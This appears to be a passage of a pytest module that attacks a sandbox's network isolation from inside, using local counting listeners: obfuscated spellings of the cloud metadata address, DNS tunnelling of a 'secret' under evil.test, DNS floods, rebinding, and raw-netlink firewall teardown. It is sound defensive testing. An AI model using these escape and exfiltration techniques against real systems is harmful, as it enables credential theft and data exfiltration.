"""Network escapes, from the attacker's side: workload code (python3 inside a
sandbox) trying to reach what the policy must never let it reach.

tests/e2e/test_network.py proves the policy cases (modes, CIDRs, names,
TTLs, tunnels). This module attacks them: every spelling of the metadata
service and of the host (v4-mapped, NAT64, 6to4, inet_aton forms,
link-local), other sandboxes that expose ports, DNS tunnelling and
smuggling through the resolver, rebinding onto blocked addresses, the
workload tearing down or spoofing its own networking, and floods.

Every destination is a real listener this module runs (on the host, in the
fixture netns of netfixture.py, or in another sandbox) that counts what
reaches it, so "blocked" is measured at the target, not inferred from an
error code. No packet is sent to a real outside address.
"""

import ipaddress
import json
import os
import socket
import struct
import subprocess
import sys
import threading
import time

import pytest

import attack
import moat
import moatd_harness
from dnszone import TYPE_A, TYPE_AAAA, DnsZoneServer
from netfixture import SERVER_PORT, http_get
from test_network import (CONNECT_TIMEOUT, PYTHON, RESOLVER_ENV, HostListener, _moatd_has_networking, ok,
                          own_address, py, reach, resolve, wait_for)
from test_network import net  # noqa: F401 - the module-scoped fixture: one namespace "outside" per module

pytestmark = pytest.mark.skipif(not _moatd_has_networking(), reason="this moatd has no networking")

# A blocked TCP connect ends by reject (ECONNREFUSED/EHOSTUNREACH/EACCES) or
# by this timeout; a batch of parallel probes by this plus slack.
PROBE_BATCH_MAX = CONNECT_TIMEOUT + 20
# Spoofing and UDP probes: how long the targets are given to log arrivals.
SETTLE = 1.0


# --- fixtures -------------------------------------------------------------------

@pytest.fixture(scope="module")
def zone(net):
    server = DnsZoneServer(net.subnet)
    # Rebinding records: allowed names whose answers point at what is always
    # blocked. Tests add the per-sandbox ones (gateway, sibling) at run time.
    server.zone.records.update({
        "meta.test": [(TYPE_A, net.METADATA_V4), (TYPE_AAAA, net.METADATA_V6)],
        "loop.test": [(TYPE_A, "127.0.0.1"), (TYPE_AAAA, "::1")],
        "mapped.test": [(TYPE_AAAA, "::ffff:" + net.METADATA_V4)],
        "nat64.test": [(TYPE_AAAA, "64:ff9b::a9fe:a9fe")],
        "sixtofour.test": [(TYPE_AAAA, "2002:a9fe:a9fe::1")],
        "hostside.test": [(TYPE_A, net.host_v4), (TYPE_AAAA, net.v6_public(1))],
    })
    server.start()
    try:
        yield server
    finally:
        server.stop()


@pytest.fixture(scope="module")
def moatd(request, net, zone):
    yield from moatd_harness.moatd_fixture(request, "sec-net",
                                           extra_args=["--dns-upstream", zone.address])


@pytest.fixture
def make(moatd):
    """make(network=..., ports=...) -> a sandbox deleted after the test."""
    yield from moatd_harness.sandbox_maker(moatd)


# Counting listeners in the fixture netns ("the outside"): TCP 80 (the real
# metadata port) and 53, UDP 53 and 9999. Each arrival appends
# "<proto> <port> <peer> <local>" to a log.
_COUNTER = r'''
import socket, sys, threading
log = open(sys.argv[1], "a", buffering=1)
def tcp(port):
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("::", port)); s.listen(128)
    ready.append(port)
    while True:
        c, peer = s.accept()
        log.write("tcp %d %s %s\n" % (port, peer[0].replace("::ffff:", ""), c.getsockname()[0].replace("::ffff:", "")))
        try:
            c.sendall(b"HTTP/1.0 200 OK\r\n\r\ncounter\n")
        except OSError:
            pass
        c.close()
def udp(port):
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    s.bind(("::", port))
    ready.append(port)
    while True:
        data, peer = s.recvfrom(65536)
        log.write("udp %d %s %r\n" % (port, peer[0].replace("::ffff:", ""), data[:40]))
ready = []
threads = [threading.Thread(target=f, args=(p,), daemon=True)
           for f, p in ((tcp, 80), (tcp, 53), (udp, 53), (udp, 9999))]
for t in threads:
    t.start()
import time
while len(ready) < 4:
    time.sleep(0.01)
print("ready", flush=True)
threading.Event().wait()
'''


class OutsideCounter:
    """_COUNTER running in the fixture netns."""

    def __init__(self, net):
        self.log_path = "/tmp/moatsec-%d-counter.log" % os.getpid()
        open(self.log_path, "w").close()
        self.proc = subprocess.Popen(["ip", "netns", "exec", net.netns, sys.executable, "-c", _COUNTER,
                                      self.log_path], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                                     stderr=subprocess.PIPE)
        if self.proc.stdout.readline().strip() != b"ready":
            raise RuntimeError("counter did not start: %s" % self.proc.stderr.read(2000))

    def arrivals(self):
        with open(self.log_path) as f:
            return [line.split(" ", 3) for line in f if line.strip()]

    def close(self):
        self.proc.kill()
        self.proc.wait()
        self.proc.stdout.close()
        self.proc.stderr.close()
        os.unlink(self.log_path)


@pytest.fixture(scope="module")
def outside(net):
    counter = OutsideCounter(net)
    try:
        yield counter
    finally:
        counter.close()


class HostUdpCounter:
    """UDP sockets on the host on 0.0.0.0:P and [::]:P counting datagrams."""

    def __init__(self, port):
        self.received = []
        self.sockets = []
        for family, address in ((socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::")):
            s = socket.socket(family, socket.SOCK_DGRAM)
            if family == socket.AF_INET6:
                s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
            s.bind((address, port))
            s.settimeout(0.2)
            self.sockets.append(s)
        self._stop = False
        self._threads = [threading.Thread(target=self._serve, args=(s,), daemon=True) for s in self.sockets]
        for t in self._threads:
            t.start()

    def _serve(self, s):
        while not self._stop:
            try:
                data, peer = s.recvfrom(65536)
            except socket.timeout:
                continue
            except OSError:
                return
            self.received.append((peer[0], data[:40]))

    def close(self):
        self._stop = True
        for t in self._threads:
            t.join(2)
        for s in self.sockets:
            s.close()


@pytest.fixture
def host_listener():
    tcp = HostListener()
    udp = HostUdpCounter(tcp.port)
    try:
        yield tcp, udp
    finally:
        tcp.close()
        udp.close()


# --- probes run inside a sandbox ------------------------------------------------

# argv: JSON [[key, host, port, family "4"|"6"|""], ...]. Sends 3 UDP
# datagrams to each; prints {key: "sent" | "FAIL <why>"}.
_UDP_SEND = r'''
import errno, json, socket, sys
out = {}
for key, host, port, family in json.loads(sys.argv[1]):
    fam = {"4": socket.AF_INET, "6": socket.AF_INET6}.get(family, socket.AF_UNSPEC)
    try:
        infos = socket.getaddrinfo(host, port, fam, socket.SOCK_DGRAM)
    except socket.gaierror as e:
        out[key] = "FAIL resolve %s" % e
        continue
    why = []
    for af, kind, proto, _, address in infos:
        s = socket.socket(af, kind, proto)
        try:
            for _ in range(3):
                s.sendto(b"moat-probe " + key.encode(), address)
            why.append("sent")
        except OSError as e:
            why.append(errno.errorcode.get(e.errno, str(e.errno)))
        finally:
            s.close()
    out[key] = " ".join(why)
print(json.dumps(out))
'''


def udp_send(sb, targets):
    return json.loads(py(sb, _UDP_SEND, json.dumps([list(t) for t in targets])))


def sandbox_gateways(sb):
    """The sandbox's default gateways (v4, v6), as it sees them."""
    out = {}
    for family in ("-4", "-6"):
        done = sb.run(["ip", "-j", family, "route", "show", "default"], timeout=30)
        assert done.exit_code == 0, done.stderr
        routes = json.loads(done.stdout or "[]")
        out[family] = routes[0]["gateway"] if routes else None
    return out["-4"], out["-6"]


def host_addresses():
    """Every address of every host interface: [(address, scope, ifname)]."""
    done = subprocess.run(["ip", "-j", "addr"], capture_output=True, text=True, timeout=10, check=True)
    found = []
    for entry in json.loads(done.stdout):
        for info in entry.get("addr_info", []):
            found.append((info["local"], info.get("scope"), entry["ifname"]))
    return found


def host_global_addresses():
    """The host's global addresses on lo and its uplinks (not the veths of
    sandboxes, which come and go with other tests)."""
    uplinks = {"lo"}
    for family in ("-4", "-6"):
        done = subprocess.run(["ip", "-j", family, "route", "show", "default"], capture_output=True, text=True,
                              timeout=10)
        uplinks.update(r["dev"] for r in json.loads(done.stdout or "[]") if "dev" in r)
    return [a for a, scope, ifname in host_addresses() if scope in ("global", "host") and ifname in uplinks]


def v4_spellings(address):
    """A v4 address under every name a careless filter might miss."""
    v4 = ipaddress.IPv4Address(address)
    n = int(v4)
    a, b, c, d = v4.packed
    return {
        "v4 " + address: (address, "4"),
        "int " + address: (str(n), "4"),
        "hex " + address: ("0x%08x" % n, "4"),
        "octal " + address: ("0%o.0%o.0%o.0%o" % (a, b, c, d), "4"),
        "a.b.cd " + address: ("%d.%d.%d" % (a, b, (c << 8) | d), "4"),
        "mapped " + address: ("::ffff:" + address, "6"),
        "nat64 " + address: (str(ipaddress.IPv6Address("64:ff9b::") + n), "6"),
        "nat64local " + address: (str(ipaddress.IPv6Address("64:ff9b:1::") + n), "6"),
        "6to4 " + address: ("2002:%02x%02x:%02x%02x::1" % (a, b, c, d), "6"),
    }


def tcp_rows(spellings, port):
    return [(key, host, port, family) for key, (host, family) in spellings.items()]


def new_outside(counter, before):
    return counter.arrivals()[before:]


def assert_no_success(got, what):
    leaked = {k: v for k, v in got.items() if ok(v)}
    assert not leaked, "%s: connected: %s" % (what, leaked)


# --- metadata -------------------------------------------------------------------

def test_metadata_service_unreachable_under_every_spelling_and_mode(moatd, net, zone, outside, make):
    """Attack: reach the cloud metadata service (169.254.169.254 on port 80
    and on the fixture's 8000, fd00:ec2::254) from none, allow (with the
    metadata addresses, 169.254/16, ::ffff:0:0/96, 64:ff9b::/96 and 2002::/16
    all *listed*, and a name resolving to them) and internet mode, spelled as
    v4, integer, hex, octal, a.b.cd, v4-mapped, v4-compatible, NAT64 (both
    prefixes) and 6to4, and through the name meta.test.
    Bound: no TCP connect succeeds (each ends within CONNECT_TIMEOUT with a
    reject or timeout), and the real listeners on those addresses (the
    fixture server's log and the port-80/UDP counter in the fixture netns)
    record zero arrivals from any sandbox."""
    # The listeners are real: the host itself reaches both on port 80.
    before = len(outside.arrivals())

    def answers(address):
        try:
            return http_get(address, 80).strip() == "counter"
        except OSError:  # the fixture's listener may still be starting
            return False
    wait_for(lambda: answers(net.METADATA_V4), what="the metadata listener (v4)")
    wait_for(lambda: answers(net.METADATA_V6), what="the metadata listener (v6)")
    assert len(outside.arrivals()) >= before + 2
    listed = [net.METADATA_V4 + "/32", "169.254.0.0/16", net.METADATA_V6 + "/128", "fd00:ec2::/64",
              "::ffff:0:0/96", "64:ff9b::/96", "2002::/16", "meta.test", net.server_v4 + "/32"]
    sandboxes = {
        "none": make(),
        "allow": make(network=moat.Network.allow(listed)),
        "internet": make(network=moat.Network.internet()),
        "internet+allow": make(network=moat.Network.internet(allow=listed[:-2])),
    }
    spellings = v4_spellings(net.METADATA_V4)
    spellings["v6 " + net.METADATA_V6] = (net.METADATA_V6, "6")
    spellings["name4"] = ("meta.test", "4")
    spellings["name6"] = ("meta.test", "6")
    seen_log = len(net.requests())
    seen_outside = len(outside.arrivals())
    for mode, sb in sandboxes.items():
        for port in (80, SERVER_PORT):
            started = time.monotonic()
            got = reach(sb, *tcp_rows(spellings, port))
            assert time.monotonic() - started < PROBE_BATCH_MAX
            assert_no_success(got, "metadata from %s mode, port %d" % (mode, port))
        got = udp_send(sb, [(k, h, 9999, f) for k, (h, f) in spellings.items()])
        print("%s udp: %s" % (mode, sorted(set(got.values()))))
    # Controls: the allow sandbox does reach its one ordinary CIDR, so the
    # failures above are the block, not a dead network.
    assert ok(reach(sandboxes["allow"], net.server_v4)[net.server_v4])
    time.sleep(SETTLE)
    metadata = {net.METADATA_V4, net.METADATA_V6}
    hits = [r for r in net.requests()[seen_log:] if r[1] in metadata]
    assert not hits, "the metadata server answered a sandbox: %s" % hits
    assert not new_outside(outside, seen_outside), new_outside(outside, seen_outside)


# --- the host -------------------------------------------------------------------

def test_host_unreachable_at_every_address_and_spelling(moatd, net, make, host_listener):
    """Attack: reach a TCP and a UDP service of the host (bound on 0.0.0.0:P
    and [::]:P, so every host address) at every address the host has (lo,
    the sandbox's gateway on its veth in v4, v6 and link-local, the other
    sandboxes' veths, eth0, the fixture link), plus every alternative
    spelling of each v4 address (integer, hex, octal, mapped, NAT64, 6to4,
    v4-compatible) and 127.0.0.1/0.0.0.0/localhost tricks, from allow mode
    (with all of those listed as CIDRs) and internet mode.
    Bound: zero TCP connections accepted and zero UDP datagrams received by
    the host listeners (127.x inside a sandbox is its own loopback: refused
    there, never the host's); every connect ends within CONNECT_TIMEOUT."""
    tcp, udp = host_listener
    allow_cidrs = [net.server_v4 + "/32"]
    for address, scope, _ in host_addresses():
        if scope == "global":
            allow_cidrs.append(str(ipaddress.ip_network(address)))
    sandboxes = {"allow": make(network=moat.Network.allow(allow_cidrs)),
                 "internet": make(network=moat.Network.internet())}
    rows = {}
    for mode, sb in sandboxes.items():
        targets = {}
        gw4, gw6 = sandbox_gateways(sb)
        assert gw4 and gw6, (gw4, gw6)
        for address, scope, ifname in host_addresses() + [(gw4, "global", "gw"), (gw6, "global", "gw")]:
            ip = ipaddress.ip_address(address)
            if ip.version == 4:
                targets.update(v4_spellings(address))
            elif scope == "link":
                # Only the host side of this sandbox's veth is on-link; the
                # rest prove link-local addresses of other links are not.
                targets["ll %s %s" % (ifname, address)] = (address + "%eth0", "6")
            else:
                targets["v6 " + address] = (address, "6")
        for key, host in (("zero", "0.0.0.0"), ("unspec6", "::"), ("localhost", "localhost"),
                          ("loop127.1", "127.1"), ("loopint", "2130706433"), ("loop6", "::1")):
            targets[key] = (host, "")
        rows[mode] = targets
    # The listeners are live: the host reaches them on its stable addresses
    # and on the gateways of this module's sandboxes.
    for address in host_global_addresses() + ["127.0.0.1", "::1", net.host_v4, net.host_v6] + \
            [a for sb in sandboxes.values() for a in sandbox_gateways(sb)]:
        assert http_get(address, tcp.port).strip() == "host service", address
    seen_tcp, seen_udp = len(tcp.accepted), len(udp.received)
    for mode, sb in sandboxes.items():
        started = time.monotonic()
        got = reach(sb, *tcp_rows(rows[mode], tcp.port))
        assert time.monotonic() - started < PROBE_BATCH_MAX
        # 127.x/::1/0.0.0.0 reach the sandbox's own loopback, where nothing listens.
        assert_no_success(got, "host from %s mode" % mode)
        udp_send(sb, [(k, h, tcp.port, f) for k, (h, f) in rows[mode].items()])
    time.sleep(SETTLE)
    assert tcp.accepted[seen_tcp:] == [], "host TCP service reached from a sandbox: %s" % tcp.accepted[seen_tcp:]
    assert udp.received[seen_udp:] == [], "host UDP service reached from a sandbox: %s" % udp.received[seen_udp:]


# --- other sandboxes ------------------------------------------------------------

_SERVE_BOTH = r'''
import socket, sys, threading
log = open("/tmp/arrivals", "a", buffering=1)
def tcp():
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    s.bind(("::", 8080)); s.listen(64)
    while True:
        c, peer = s.accept()
        log.write("tcp %s\n" % peer[0]); c.sendall(b"HTTP/1.0 200 OK\r\n\r\nsandbox a"); c.close()
def udp():
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    s.bind(("::", 8080))
    while True:
        data, peer = s.recvfrom(4096)
        log.write("udp %s %r\n" % (peer[0], data[:30]))
threading.Thread(target=udp, daemon=True).start()
tcp()
'''


def test_other_sandbox_unreachable_even_when_it_exposes_a_port(moatd, net, zone, make):
    """Attack: sandbox A (internet mode) exposes port 8080 and serves TCP and
    UDP on [::]:8080. B (internet) and C (allow: both pools, A's addresses,
    and sib.test, a name resolving to A) try A's v4, v6 and link-local
    addresses, their mapped/NAT64/6to4 spellings, the name, and A's tunnel
    on every host address. Bound: A's server logs zero arrivals from
    anything but A itself, no connect succeeds (each within
    CONNECT_TIMEOUT); the tunnel still works from the host with its token."""
    a = make(network=moat.Network.internet(), ports=[8080])
    a_v4 = own_address(a, net.server_v4)
    a_v6 = own_address(a, net.server_v6_public)
    a_ll = a.run(["sh", "-c", "ip -6 -br addr show dev eth0 | grep -o 'fe80[^/]*'"]).stdout.strip()
    assert a_ll.startswith("fe80"), a_ll
    zone.zone.records["sib.test"] = [(TYPE_A, a_v4), (TYPE_AAAA, a_v6)]
    server = a.exec(PYTHON, "-c", _SERVE_BOTH, stdin=False)
    try:
        got = wait_for(lambda: (lambda g: g if ok(g["self"]) else None)(reach(a, ("self", a_v4, 8080, "4"))),
                       what="A's server")
        tunnel = a.tunnels()[8080]
        b = make(network=moat.Network.internet())
        # (A's own /32 and /128 are inside the pools: listing them too would
        # hit the overlap bug of test_overlapping_allow_cidrs_are_accepted.)
        c = make(network=moat.Network.allow([moatd.net_pool4, moatd.net_pool6, "sib.test",
                                             net.server_v4 + "/32"]))
        a.run(["sh", "-c", ": > /tmp/arrivals"])
        for name, sb in (("B", b), ("C", c)):
            targets = v4_spellings(a_v4)
            targets["v6"] = (a_v6, "6")
            targets["ll"] = (a_ll + "%eth0", "6")
            targets["name4"] = ("sib.test", "4")
            targets["name6"] = ("sib.test", "6")
            rows = tcp_rows(targets, 8080)
            gw4, gw6 = sandbox_gateways(sb)
            for key, host in (("tunnel-gw4", gw4), ("tunnel-gw6", gw6), ("tunnel-lo", "127.0.0.1"),
                              ) + tuple(("tunnel-" + a, a) for a in host_global_addresses()):
                rows.append((key, host, tunnel.host_port, ""))
            got = reach(sb, *rows)
            assert_no_success(got, "sandbox A from %s" % name)
            udp_send(sb, [(k, h, 8080, f) for k, (h, f) in targets.items()])
        time.sleep(SETTLE)
        arrivals = a.files.read("/tmp/arrivals").decode()
        assert arrivals == "", "another sandbox reached A: %r" % arrivals
        # Control: the tunnel is live for the host, with the token.
        # (A's one-threaded server may still be busy with the attempts above.)
        def tunnel_answers():
            try:
                return "sandbox a" in http_get("127.0.0.1", tunnel.host_port, headers=tunnel.headers)
            except OSError:
                return False
        wait_for(tunnel_answers, what="the tunnel to A from the host")
    finally:
        server.kill()
        server.wait(timeout=30)
        zone.zone.records.pop("sib.test", None)


def test_overlapping_allow_cidrs_are_accepted(moatd, net, make):
    """Attack (availability, error hygiene): an allow list whose CIDRs
    overlap (10.0.0.0/8 and 10.1.0.0/16; a pool and one of its addresses).
    Bound: the sandbox is created (overlap is legal: the union is meant) or
    refused with 400 invalid_argument - never a 500 carrying nft's text."""
    for allow in (["10.0.0.0/8", "10.1.0.0/16"], [net.server_v4 + "/24", net.server_v4 + "/32"]):
        try:
            sb = make(network=moat.Network.allow(allow))
        except moat.InvalidArgument:
            continue
        assert sb.network.mode == "allow"
        assert ok(reach(sb, net.server_v4)[net.server_v4]) == (net.server_v4 + "/32" in allow)


# --- DNS ------------------------------------------------------------------------

# Raw DNS over UDP to 127.0.0.53: argv JSON [[key, hex-packet], ...]; prints
# {key: rcode | "noreply"}; every query waits at most 2 s.
_DNS_RAW = r'''
import json, socket, sys, time
out = {}
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
for key, packet in json.loads(sys.argv[1]):
    packet = bytes.fromhex(packet)
    s.sendto(packet, ("127.0.0.53", 53))
    try:
        while True:
            reply = s.recv(65536)
            if reply[:2] == packet[:2]:
                break
        out[key] = reply[3] & 0xF
    except socket.timeout:
        out[key] = "noreply"
print(json.dumps(out))
'''


def dns_packet(labels, qtype=TYPE_A, qdcount=1, flags=0x0100, extra_questions=(), qclass=1):
    def name(parts):
        return b"".join(bytes([len(p)]) + p for p in parts) + b"\0"
    body = name(labels) + struct.pack("!HH", qtype, qclass)
    for more in extra_questions:
        body += name(more) + struct.pack("!HH", TYPE_A, 1)
    query_id = int.from_bytes(os.urandom(2), "big")
    return struct.pack("!HHHHHH", query_id, flags, qdcount, 0, 0, 0) + body


def _labels(text):
    return [p.encode() for p in text.split(".")]


def upstream_names(zone, since):
    return [name for name, _ in zone.log[since:]]


def test_dns_tunnelling_and_smuggling_never_reach_upstream(moatd, net, zone, make):
    """Attack: exfiltrate data through DNS lookups of names that are not
    allowed (policy: good.test and *.example.test): data-bearing labels under
    test. and under the allowed names, case and trailing-dot variants, a
    label containing a dot or a NUL (so a C-string or text comparison reads
    an allowed name), a second question behind an allowed first one, TXT,
    ANY, AXFR, CHAOS class, a QR=1 "response", and the same names through
    the libc resolver.
    Bound: every reply comes within 2 s and is an error rcode (NXDOMAIN,
    REFUSED, FORMERR, NOTIMPL) or no reply; the upstream zone server logs
    only allowed names (exactly good.test, or a name strictly below
    example.test) - nothing else ever leaves moatd."""
    sb = make(network=moat.Network.allow(["good.test", "*.example.test"]))
    since = len(zone.log)
    secret = "c2VjcmV0LWRhdGEtZnJvbS10aGUtc2FuZGJveA"
    queries = {
        "under-test": dns_packet(_labels(secret + ".evil.test")),
        "under-good": dns_packet(_labels(secret + ".good.test")),
        "good-suffix": dns_packet(_labels("good.test." + secret + ".test")),
        "prefix-join": dns_packet(_labels(secret + "good.test")),
        "example-apex": dns_packet(_labels("example.test")),
        "dot-in-label": dns_packet([b"x.good", b"test"]),
        "dot-label-whole": dns_packet([secret.encode() + b".good.test"]),
        "dot-example": dns_packet([secret.encode() + b".evil", b"example.test"]),
        "nul-in-label": dns_packet([b"good", b"test\0" + secret.encode()]),
        "nul-first": dns_packet([b"good\0" + secret.encode(), b"test"]),
        "two-questions": dns_packet(_labels("good.test"), qdcount=2,
                                    extra_questions=[_labels(secret + ".evil.test")]),
        "txt": dns_packet(_labels(secret + ".evil.test"), qtype=16),
        "any": dns_packet(_labels(secret + ".evil.test"), qtype=255),
        "axfr-allowed": dns_packet(_labels("good.test"), qtype=252),
        "chaos-allowed": dns_packet(_labels("good.test"), qclass=3),
        "response": dns_packet(_labels(secret + ".evil.test"), flags=0x8100),
        "upper": dns_packet(_labels(secret.upper() + ".EVIL.TEST")),
        "empty-label-trick": dns_packet([b"good", b"test", b""] + _labels(secret)),
    }
    started = time.monotonic()
    got = json.loads(py(sb, _DNS_RAW, json.dumps([[k, v.hex()] for k, v in queries.items()])))
    assert time.monotonic() - started < 2 * len(queries) + 20
    print("dns rcodes: %s" % got)
    for key, rcode in got.items():
        assert rcode in ("noreply", 1, 3, 4, 5), (key, rcode)
    names = resolve(sb, secret + ".evil.test", secret + ".good.test", "example.test", secret + "-good.test")
    assert all(v.startswith("FAIL") for v in names.values()), names
    asked = upstream_names(zone, since)
    wrong = [n for n in asked if n != "good.test" and not n.endswith(".example.test")]
    assert not wrong, "names that are not allowed reached upstream: %r" % wrong
    assert not any(secret.lower() in n for n in asked), asked
    # Control: the same path does forward an allowed name.
    assert resolve(sb, "good.test")["good.test"] == sorted([net.server_v4, net.server_v6_public])


_DNS_FLOOD = r'''
import os, select, socket, struct, sys, time
count = int(sys.argv[1])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setblocking(False)
s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
sent = replies = nx = 0
deadline = time.monotonic() + 60
def drain():
    global replies, nx
    while True:
        try:
            r = s.recv(4096)
        except BlockingIOError:
            return
        replies += 1
        nx += (r[3] & 0xF) == 3
while sent < count and time.monotonic() < deadline:
    name = b"".join(bytes([len(l)]) + l for l in (("x%07d-%s" % (sent, os.urandom(6).hex())).encode(), b"exfil", b"test")) + b"\0"
    try:
        s.sendto(struct.pack("!HHHHHH", sent & 0xFFFF, 0x0100, 1, 0, 0, 0) + name + b"\0\x01\0\x01", ("127.0.0.53", 53))
        sent += 1
    except BlockingIOError:
        select.select([s], [], [], 0.01)
    if sent % 64 == 0:
        drain()
end = time.monotonic() + 2
while time.monotonic() < end:
    select.select([s], [], [], 0.1)
    drain()
print(sent, replies, nx)
'''


def test_dns_flood_of_unallowed_names_keeps_moatd_responsive(moatd, net, zone, make):
    """Attack: 20,000 lookups of distinct non-allowed names (DNS tunnelling
    at volume) sent as fast as one sandbox can to 127.0.0.53.
    Bound: moatd's health p99 <= 500 ms and max <= 2 s during the flood; the
    upstream receives none of the names; the sandbox's own allowed name still
    resolves afterwards (the resolver survived); NXDOMAIN is what the flood
    gets back."""
    sb = make(network=moat.Network.allow(["good.test"]))
    since = len(zone.log)
    with attack.responsive(moatd):
        sent, replies, nx = map(int, py(sb, _DNS_FLOOD, 20000, timeout=120).split())
    print("dns flood: sent %d replies %d nxdomain %d" % (sent, replies, nx))
    assert sent == 20000
    assert replies > 0 and nx == replies, (replies, nx)
    assert not [n for n in upstream_names(zone, since) if "exfil" in n]
    assert resolve(sb, "good.test")["good.test"] == sorted([net.server_v4, net.server_v6_public])


_DIRECT_DNS = r'''
import json, socket, struct, sys
query = struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + b"\x06secret\x04evil\x04test\x00\x00\x01\x00\x01"
out = {}
for key, host, port in json.loads(sys.argv[1]):
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    u = socket.socket(fam, socket.SOCK_DGRAM); u.settimeout(1.5)
    try:
        u.sendto(query, (host, port)); u.recv(4096); udp = "REPLY"
    except OSError as e:
        udp = type(e).__name__
    t = socket.socket(fam, socket.SOCK_STREAM); t.settimeout(1.5)
    try:
        t.connect((host, port)); t.sendall(struct.pack("!H", len(query)) + query); tcp = "CONNECTED"
    except OSError as e:
        tcp = type(e).__name__
    out[key] = [udp, tcp]
print(json.dumps(out))
'''


def test_direct_queries_to_other_resolvers_are_refused(moatd, net, zone, outside, make):
    """Attack: bypass moatd's resolver by asking another one directly over
    UDP and TCP 53: the "outside" servers (a counter listens on UDP/TCP 53
    in the fixture netns), the sandbox's gateway, and the host's real
    upstream (moatd's --dns-upstream, on the host's loopback port), from
    none mode and from allow mode whose only entry is a name.
    Bound: no reply and no TCP connection; the fixture counter and the
    upstream zone log record zero queries (each attempt ends within 1.5 s).
    (internet mode reaches any public address on any port by design.)"""
    zone_port = zone.port
    for sb in (make(), make(network=moat.Network.allow(["good.test"]))):
        gw = sandbox_gateways(sb) if sb.network.mode != "none" else (net.host_v4, net.host_v6)
        targets = [["srv4", net.server_v4, 53], ["srv6", net.server_v6_public, 53],
                   ["meta", net.METADATA_V4, 53], ["gw4", gw[0], 53], ["gw6", gw[1], 53],
                   ["upstream-gw", gw[0], zone_port], ["upstream-lo", "127.0.0.1", zone_port],
                   ] + [["host-" + a, a, zone_port] for a in host_global_addresses()]
        since_zone, since_outside = len(zone.log), len(outside.arrivals())
        got = json.loads(py(sb, _DIRECT_DNS, json.dumps(targets)))
        for key, (udp, tcp) in got.items():
            assert udp != "REPLY" and tcp != "CONNECTED", (sb.network.mode, key, udp, tcp)
        time.sleep(SETTLE)
        assert upstream_names(zone, since_zone) == []
        assert new_outside(outside, since_outside) == []


def test_dns_rebinding_onto_blocked_addresses_opens_nothing(moatd, net, zone, outside, make,
                                                            host_listener):
    """Attack: DNS rebinding. Allowed names whose answers are the metadata
    addresses, loopback, the metadata address as v4-mapped/NAT64/6to4, the
    host's own fixture-link addresses, this sandbox's gateway and another
    sandbox's address; the workload resolves each (admitting the answers)
    and connects, in allow mode and in internet mode.
    Bound: no connect succeeds; the fixture server, the port-80 counter, the
    host listener and the other sandbox's server record zero arrivals."""
    tcp, udp = host_listener
    other = make(network=moat.Network.internet())
    other_v4 = own_address(other, net.server_v4)
    server = other.exec(PYTHON, "-c", _SERVE_BOTH, stdin=False)
    names = ["meta.test", "loop.test", "mapped.test", "nat64.test", "sixtofour.test", "hostside.test",
             "gw.test", "sib.test"]
    zone.zone.records["sib.test"] = [(TYPE_A, other_v4)]
    try:
        wait_for(lambda: ok(reach(other, ("s", other_v4, 8080, "4"))["s"]), what="the other sandbox's server")
        other.run(["sh", "-c", ": > /tmp/arrivals"])
        for sb in (make(network=moat.Network.allow(names)), make(network=moat.Network.internet())):
            gw4, gw6 = sandbox_gateways(sb)
            zone.zone.records["gw.test"] = [(TYPE_A, gw4), (TYPE_AAAA, gw6)]
            answers = resolve(sb, *names)
            assert answers["meta.test"] == sorted([net.METADATA_V4, net.METADATA_V6]) or \
                answers["meta.test"].startswith("FAIL"), answers
            seen_log, seen_outside, seen_tcp = len(net.requests()), len(outside.arrivals()), len(tcp.accepted)
            rows = []
            for name in names:
                for family in ("4", "6"):
                    for port in (SERVER_PORT, 80, tcp.port, 8080):
                        rows.append(("%s/%s/%d" % (name, family, port), name, port, family))
            got = reach(sb, *rows)
            assert_no_success(got, "rebinding from %s mode" % sb.network.mode)
            time.sleep(SETTLE)
            assert net.requests()[seen_log:] == []
            assert new_outside(outside, seen_outside) == []
            assert tcp.accepted[seen_tcp:] == []
        assert other.files.read("/tmp/arrivals") == b""
    finally:
        zone.zone.records.pop("sib.test", None)
        zone.zone.records.pop("gw.test", None)
        server.kill()
        server.wait(timeout=30)


# --- the workload against its own networking -------------------------------------

_TEARDOWN = r'''
import ctypes, errno, json, os, socket, struct, subprocess
out = {}
def err(e):
    return errno.errorcode.get(e.errno, str(e.errno)) if isinstance(e, OSError) else repr(e)
# nftables over raw netlink: the filter refuses the socket (EPROTONOSUPPORT);
# if it opened, a batch creating a table must be refused with EPERM in the ack.
NETLINK_NETFILTER, NFNL_SUBSYS_NFTABLES = 12, 10
def nlmsg(mtype, flags, seq, payload):
    return struct.pack("=IHHII", 16 + len(payload), mtype, flags, seq, 0) + payload
def nfgen(family):
    return struct.pack("=BBH", family, 0, 0)
try:
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_NETFILTER)
    s.bind((0, 0))
    out["nfnetlink_socket"] = "opened"
    name = b"moatpwn\0"
    table = nlmsg((NFNL_SUBSYS_NFTABLES << 8) | 0, 0x1 | 0x4 | 0x400 | 0x200, 2,
                  nfgen(1) + struct.pack("=HH", 4 + len(name), 1) + name)
    begin = nlmsg(0x10, 0x1, 1, struct.pack("=BBH", 0, 0, socket.htons(NFNL_SUBSYS_NFTABLES)))
    end = nlmsg(0x11, 0x1, 3, struct.pack("=BBH", 0, 0, socket.htons(NFNL_SUBSYS_NFTABLES)))
    s.settimeout(2)
    s.send(begin + table + end)
    codes = []
    try:
        while True:
            data = s.recv(65536)
            off = 0
